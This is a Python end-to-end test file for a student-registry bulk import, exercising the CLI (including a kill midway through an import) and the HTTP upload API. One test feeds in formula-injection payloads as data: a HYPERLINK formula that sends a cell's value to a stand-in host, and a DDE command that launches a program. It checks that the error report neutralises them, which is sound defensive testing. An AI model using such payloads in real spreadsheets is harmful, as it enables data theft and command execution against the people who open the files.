"""Bulk import as people use it: the CLI (with a real kill half-way) and the HTTP API."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import time
import zipfile
from pathlib import Path

from fastapi.testclient import TestClient
from python_calamine import CalamineWorkbook

from tests.e2e.conftest import XUEJI, Headers, cli_env, run_cli
from tests.import_files_helper import row, write_csv
from tests.registry_world import HAIKOU, number
from xueji.demo.load import HAIKOU_SCHOOL_CODE, demo_number
from xueji.registry.imports.files import TEMPLATE_HEADERS


def demo_registry(tmp_path: Path) -> Path:
    for command in (("db", "upgrade"), ("demo", "load")):
        assert run_cli(*command, var_dir=tmp_path).returncode == 0
    return tmp_path


def test_cli_import_contract(tmp_path: Path) -> None:
    var = demo_registry(tmp_path / "var")
    rows = [
        row(
            demo_number("440604", "20170301", "001"),
            "周一",
            birth="2017-03-01",
            grade="2",
            class_name="二年级(1)班",
        ),
        row("G445222202508211234", "错号", birth="2025-08-21"),
    ]
    path = write_csv(tmp_path / "a.csv", rows)
    dry = run_cli(
        "registry",
        "import",
        str(path),
        "--school",
        HAIKOU_SCHOOL_CODE,
        "--dry-run",
        "--json",
        var_dir=var,
    )
    assert dry.returncode == 1, dry.stderr  # a row was rejected
    assert json.loads(dry.stdout) == {
        "new": 1,
        "changed": 0,
        "unchanged": 0,
        "rejected": 1,
        "errors": [
            {
                "row": 3,
                "code": "ID_CHECKSUM",
                "message": "校验码错误：按前 17 位计算，最后一位应为“0”，实际为“4”",
            }
        ],
        "differs": 0,
        "changes": [],
        "warnings": [],
    }
    report = tmp_path / "report.xlsx"
    done = run_cli(
        "registry",
        "import",
        str(path),
        "--school",
        HAIKOU_SCHOOL_CODE,
        "--json",
        "--report",
        str(report),
        var_dir=var,
    )
    assert json.loads(done.stdout)["new"] == 1
    sheet = list(CalamineWorkbook.from_path(str(report)).get_sheet_by_index(0).iter_rows())
    assert sheet[0][-2:] == ["错误原因", "行号"]
    assert sheet[1][0] == "G445222202508211234" and "校验码" in sheet[1][-2]
    again = run_cli(
        "registry", "import", str(path), "--school", HAIKOU_SCHOOL_CODE, "--json", var_dir=var
    )
    assert json.loads(again.stdout)["unchanged"] == 1
    # a file that differs from the registry: reported, applied only with --update
    renamed = write_csv(tmp_path / "b.csv", [renamed_row(rows[0])])
    kept = _import(var, renamed, "--school", HAIKOU_SCHOOL_CODE, "--json")
    assert kept.returncode == 0, kept.stderr
    kept_body = json.loads(kept.stdout)
    assert (kept_body["changed"], kept_body["differs"]) == (0, 1)
    [change] = kept_body["changes"]
    assert change["row"] == 2 and "**" in change["registry_no"]
    assert change["fields"] == [
        {"field": "name", "label": "姓名", "current": "周一", "file": "周壹"}
    ]
    human = _import(var, renamed, "--school", HAIKOU_SCHOOL_CODE, "--dry-run")
    assert "与文件不同 1" in human.stdout and "姓名 周一 → 周壹" in human.stdout
    applied = _import(var, renamed, "--school", HAIKOU_SCHOOL_CODE, "--update", "--json")
    assert (json.loads(applied.stdout)["changed"], json.loads(applied.stdout)["differs"]) == (1, 1)


def renamed_row(cells: list[str]) -> list[str]:
    return [cells[0], "周壹", *cells[2:]]


def _import(var: Path, path: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return run_cli("registry", "import", str(path), *extra, var_dir=var)


def test_cli_exit_status_says_whether_rows_were_rejected(tmp_path: Path) -> None:
    """0 when nothing was rejected, 1 whenever any row was (one or all), never a
    traceback."""
    var = demo_registry(tmp_path / "var")
    good = [
        row(demo_number("440604", "20170301", f"{i:03d}"), "周一", birth="2017-03-01")
        for i in (11, 13)
    ]
    bad = row("G445222202508211234", "错号", birth="2025-08-21")
    school = ("--school", HAIKOU_SCHOOL_CODE, "--dry-run")
    clean = _import(var, write_csv(tmp_path / "clean.csv", good), *school)
    assert clean.returncode == 0, clean.stderr
    some = _import(var, write_csv(tmp_path / "some.csv", [*good, bad]), *school)
    every = _import(var, write_csv(tmp_path / "every.csv", [bad, bad]), *school)
    assert (some.returncode, every.returncode) == (1, 1)
    assert "拒绝 1" in some.stdout and "拒绝 2" in every.stdout
    assert "Traceback" not in some.stderr + every.stderr


def test_cli_refusals_are_chinese_with_a_code_and_change_nothing(tmp_path: Path) -> None:
    """The file or the command line refused: exit 2, the code and a Chinese message, no
    traceback, nothing written — an unwritable report path is found before importing."""
    var = demo_registry(tmp_path / "var")
    before = _counts(var / "xueji.db")
    good = write_csv(
        tmp_path / "good.csv",
        [row(demo_number("440604", "20170301", "011"), "周一", birth="2017-03-01")],
    )
    garbage = tmp_path / "garbage.xlsx"
    garbage.write_bytes(b"this is not a workbook")
    school = ("--school", HAIKOU_SCHOOL_CODE)
    cases = {
        "FILE_NOT_FOUND": _import(var, tmp_path / "missing.csv", *school),
        "REPORT_PATH_UNWRITABLE": _import(var, good, *school, "--report", "/nonexistent/r.xlsx"),
        "NOT_FOUND": _import(var, good, "--school", "9999999999"),
        "IMPORT_FILE_BROKEN": _import(var, garbage, *school),
        "CLI_USAGE": _import(var, good),
    }
    for code, done in cases.items():
        assert done.returncode == 2, (code, done.stderr)
        assert f"错误 {code}" in done.stderr, (code, done.stderr)
        assert "Traceback" not in done.stderr and "Error:" not in done.stderr, code
    assert "缺少必需的参数 --school" in cases["CLI_USAGE"].stderr
    assert _counts(var / "xueji.db") == before


def _counts(database: Path) -> tuple[int, ...]:
    with sqlite3.connect(database) as connection:
        return tuple(
            connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
            for table in (
                "students",
                "guardians",
                "outbox_events",
                "audit_log",
                "imports",
                "classes",
            )
        )


def _big_file(path: Path, per_day: int = 399) -> Path:
    """336 days of ``per_day`` students (by default about 134,000 rows, 13 MiB): imported
    with helper processes, and long enough to be killed half-way."""
    rows = (
        row(
            demo_number("440604", f"2017{m:02d}{d:02d}", f"{i:03d}"),
            "学生",
            birth=f"2017-{m:02d}-{d:02d}",
            gender="男" if i % 2 else "女",
        )
        for m in range(1, 13)
        for d in range(1, 29)
        for i in range(1, per_day + 1)
    )
    return write_csv(path, rows)


def _import_in_background(var: Path, path: Path, wait: float = 2.5) -> subprocess.Popen[bytes]:
    process = subprocess.Popen(
        [str(XUEJI), "registry", "import", str(path), "--school", HAIKOU_SCHOOL_CODE],
        env=cli_env(var),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    time.sleep(wait)
    assert process.poll() is None, "import finished before it could be killed"
    return process


def test_killed_import_leaves_the_registry_exactly_as_it_was(tmp_path: Path) -> None:
    var = demo_registry(tmp_path / "var")
    before = _counts(var / "xueji.db")
    process = _import_in_background(var, _big_file(tmp_path / "big.csv"))
    os.killpg(process.pid, signal.SIGKILL)
    process.wait(timeout=10)
    assert _counts(var / "xueji.db") == before
    verify = run_cli("audit", "verify", var_dir=var)
    assert verify.returncode == 0, verify.stderr


def test_helpers_of_a_killed_import_stop_by_themselves(tmp_path: Path) -> None:
    var = demo_registry(tmp_path / "var")
    before = _counts(var / "xueji.db")
    process = _import_in_background(var, _big_file(tmp_path / "big.csv", per_day=999), wait=0)
    deadline = time.monotonic() + 20
    while not _helpers_of(process.pid):
        assert process.poll() is None and time.monotonic() < deadline, "no helper started"
        time.sleep(0.05)
    time.sleep(0.5)  # the helpers are at work
    os.kill(process.pid, signal.SIGKILL)  # the importer only, not its helpers
    process.wait(timeout=10)
    deadline = time.monotonic() + 20
    while _group_alive(process.pid):
        assert time.monotonic() < deadline, "a helper outlived its importer"
        time.sleep(0.1)
    assert _counts(var / "xueji.db") == before


def _helpers_of(importer: int) -> list[int]:
    """Processes whose parent is ``importer`` (read from /proc)."""
    children = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == importer:
            children.append(int(stat.parent.name))
    return children


def _group_alive(group: int) -> bool:
    try:
        os.killpg(group, 0)
    except ProcessLookupError:
        return False
    return True


def test_api_upload_dry_run_commit_and_report(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    admin = as_user("haikou-admin")
    rows = [row(number(sequence="005"), "周一"), row(number(sequence="007"), "周二", phone="1")]
    path = write_csv(tmp_path / "名单.csv", rows)
    files = {"file": ("名单.csv", path.read_bytes(), "text/csv")}
    url = f"/api/v1/schools/{HAIKOU}/imports"
    dry = client.post(url, files=files, data={"dry_run": "true"}, headers=admin)
    assert dry.status_code == 200, dry.text
    body = dry.json()
    assert (body["new"], body["rejected"], body["dry_run"]) == (1, 1, True)
    assert body["errors"][0]["code"] == "PHONE_INVALID"
    report = client.get(body["report_url"], headers=admin)
    assert report.status_code == 200
    assert client.get(body["report_url"], headers=as_user("foshan")).status_code == 404
    done = client.post(url, files=files, headers=admin).json()
    assert (done["new"], done["dry_run"]) == (1, False)
    student = client.get(f"/api/v1/students/{number(sequence='005')}", headers=admin)
    assert student.json()["name"] == "周一"
    renamed = {"file": ("名单.csv", path.read_bytes().replace("周一".encode(), "周壹".encode()))}
    kept = client.post(url, files=renamed, headers=admin).json()
    assert (kept["changed"], kept["differs"]) == (0, 1)
    assert (
        client.get(f"/api/v1/students/{number(sequence='005')}", headers=admin).json()["name"]
        == "周一"
    )
    updated = client.post(url, files=renamed, data={"update": "true"}, headers=admin).json()
    assert (updated["changed"], updated["differs"]) == (1, 1)
    assert (
        client.get(f"/api/v1/students/{number(sequence='005')}", headers=admin).json()["name"]
        == "周壹"
    )
    other = client.post(url, files=files, headers=as_user("huajing-admin"))
    assert other.status_code == 404
    template = client.get("/api/v1/import-template.xlsx", headers=admin)
    [header] = (
        CalamineWorkbook.from_filelike(io.BytesIO(template.content))
        .get_sheet_by_index(0)
        .to_python()
    )
    assert header[:3] == ["学籍号", "姓名", "性别"] and "监护人2电话" in header
    as_uploaded = {"file": ("模板.xlsx", template.content)}
    untouched = client.post(url, files=as_uploaded, headers=admin).json()
    assert (untouched["new"], untouched["changed"], untouched["rejected"]) == (0, 0, 0)


def test_formulas_in_an_upload_come_back_as_text_in_the_error_report(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    """A rejected row's cells are written back as text: no cell of the report is a
    formula a spreadsheet would evaluate when the clerk opens it."""
    admin = as_user("haikou-admin")
    hostile = [
        '=HYPERLINK("http://x/?d="&A3,"y")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
    ]
    rows = [
        row(number(sequence=f"{11 + 2 * i:03d}"), text, phone="1") for i, text in enumerate(hostile)
    ]
    path = tmp_path / "名单.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([TEMPLATE_HEADERS, *rows])
    url = f"/api/v1/schools/{HAIKOU}/imports"
    files = {"file": ("名单.csv", path.read_bytes(), "text/csv")}
    body = client.post(url, files=files, data={"dry_run": "true"}, headers=admin).json()
    assert body["rejected"] == len(hostile)
    report = client.get(body["report_url"], headers=admin).content
    with zipfile.ZipFile(io.BytesIO(report)) as workbook:
        sheet_xml = workbook.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    names = [
        cells[1]
        for cells in CalamineWorkbook.from_filelike(io.BytesIO(report))
        .get_sheet_by_index(0)
        .to_python()[1:]
    ]
    assert names == hostile
